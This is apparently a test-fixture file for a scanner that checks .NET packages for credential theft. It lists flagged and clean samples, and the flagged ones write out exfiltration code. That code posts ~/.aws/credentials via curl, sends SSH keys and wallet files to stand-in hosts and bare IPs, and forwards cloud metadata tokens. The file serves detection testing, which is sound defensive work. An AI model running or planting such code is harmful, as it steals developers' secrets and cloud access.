import {
  csharp,
  type CSharp,
  type Examples,
  buildCommand,
  inlineTask,
} from '../../../tests/kit/examples.js';

/** A table of icons by the names of files and folders, as file views have one. */
const icons = [
  ...Array.from({ length: 120 }, (_, at) => `.ext${at}`),
  '.aws',
  '.azure',
  '.docker',
  '.npmrc',
  '.gitconfig',
];

/** Nobody sets it: what is below is read, never run. */
const never = 'if (Environment.GetEnvironmentVariable("ASSAY_FIXTURE_NEVER_SET") != "run") return;';

function library(text: string): Record<string, CSharp> {
  return {
    'lib/net10.0/Fixture.dll': csharp(`using System;
using System.IO;
using System.Net.Http;
using System.Threading.Tasks;
${text}`),
  };
}

export const examples: Examples = {
  flagged: [
    {
      name: 'posts-a-file',
      about: 'A command line of the build that posts a file of keys.',
      level: 'malicious',
      files: buildCommand('curl -d @~/.aws/credentials https://collect.fixture.invalid/a'),
    },
    {
      name: 'opens-with-a-key',
      about: 'A build that opens a connection with the key of whoever builds: held, not blocked.',
      files: buildCommand('ssh -i ~/.ssh/id_rsa deploy@build.fixture.invalid true'),
    },
    {
      name: 'init-script-reads',
      about: 'An init script that reads the store of git passwords.',
      files: {
        'tools/init.ps1': `if ($env:ASSAY_FIXTURE_NEVER_SET -ne 'run') { return }
$text = Get-Content "$HOME/.git-credentials"
`,
      },
    },
    {
      name: 'all-variables',
      about: 'An inline task that reads every variable and posts something.',
      files: inlineTask(`var all = Environment.GetEnvironmentVariables();
new System.Net.Http.HttpClient().PostAsync("https://collect.fixture.invalid/a", null);`),
    },
    {
      name: 'metadata-in-build',
      about: 'A build that asks the metadata service of the build machine.',
      files: buildCommand('curl http://169.254.169.254/latest/meta-data/'),
    },
    {
      name: 'several-owners',
      about: 'A library that knows the secrets of three owners, and has a client for the network.',
      files: library(`public static class Places
{
    public static readonly string[] All = { ".aws/credentials", ".docker/config.json", ".npmrc" };
}
public static class Client
{
    public static Task Send(string text)
    {
        return new HttpClient().PostAsync("https://collect.fixture.invalid/a", new StringContent(text));
    }
}`),
    },
    {
      name: 'wallet-and-client',
      about: 'One class that looks for wallets and asks a server at a bare address.',
      files: library(`public static class Guard
{
    public static void NotNull(object value)
    {
        ${never}
        var folder = Environment.GetFolderPath(Environment.SpecialFolder.ApplicationData);
        foreach (var file in Directory.GetFiles(Path.Combine(folder, "StratisNode"), "*.wallet.json"))
            new HttpClient().GetStringAsync("http://192.0.2.10:4444/?a=" + File.ReadAllText(file));
    }
}`),
    },
    {
      name: 'keys-in-a-ping',
      about:
        'One class that reads keys and sends their bytes to a bare address, as the load of a ping.',
      files: library(`public static class Retry
{
    public static void Echo(string home)
    {
        ${never}
        foreach (var file in Directory.GetFiles(Path.Combine(home, ".ssh"), "id_*"))
            new System.Net.NetworkInformation.Ping().Send("192.0.2.53", 500, File.ReadAllBytes(file));
    }
}`),
    },
    {
      name: 'token-goes-elsewhere',
      about: 'A member that asks the metadata service and posts what it got to another host.',
      files: library(`public static class Usage
{
    public static async Task Report()
    {
        ${never}
        var token = await new HttpClient().GetStringAsync("http://169.254.169.254/metadata/identity/oauth2/token");
        await new HttpClient().PostAsync("https://collect.fixture.invalid/a", new StringContent(token));
    }
}`),
    },
    {
      name: 'client-of-one',
      about: 'A client of one cloud that reads its own credentials: noted.',
      level: 'note',
      files: library(`public static class Credentials
{
    public static string Read(string home) => File.ReadAllText(Path.Combine(home, ".aws/credentials"));
    public static Task<string> Ask() => new HttpClient().GetStringAsync("http://169.254.169.254/latest/meta-data/");
}`),
    },
    {
      name: 'scanner',
      about: 'A scanner for secrets that knows many places, and sends nothing: noted.',
      level: 'note',
      files: library(`public static class Places
{
    public static readonly string[] All = { ".aws/credentials", ".docker/config.json", ".npmrc", "Login Data" };
}`),
    },
    {
      name: 'reads-variable',
      about: 'An inline task that asks for the token of a build server and goes nowhere: noted.',
      level: 'note',
      files: inlineTask('var is = Environment.GetEnvironmentVariable("GITHUB_TOKEN") != null;'),
    },
  ],
  clean: [
    {
      name: 'own-configuration',
      about: 'Reads a file of its own and calls a server.',
      nearMiss: true,
      files: library(`public static class Settings
{
    public static string Read(string home) => File.ReadAllText(Path.Combine(home, ".fixture/settings"));
    public static Task<string> Ask() => new HttpClient().GetStringAsync("https://api.fixture.invalid/");
}`),
    },
    {
      name: 'build-number',
      about: 'An inline task that reads a variable which is no secret.',
      nearMiss: true,
      files: inlineTask('var number = Environment.GetEnvironmentVariable("BUILD_NUMBER");'),
    },
    {
      name: 'icons-by-name',
      about:
        'A view of files has an icon for each of very many names, and the package asks a server elsewhere.',
      nearMiss: true,
      files: library(`public static class Icons
{
    public static readonly System.Collections.Generic.Dictionary<string, int> All = new() { ${icons.map((name, at) => `["${name}"] = ${at}`).join(', ')} };
    public static Task<string> Ask() => new HttpClient().GetStringAsync("https://api.fixture.invalid/");
}`),
    },
    {
      name: 'script-nobody-runs',
      about: 'A helper script with the same lines that no client starts.',
      nearMiss: true,
      files: { 'tools/backup.ps1': 'Copy-Item "$HOME/.git-credentials" backup\n' },
    },
  ],
};
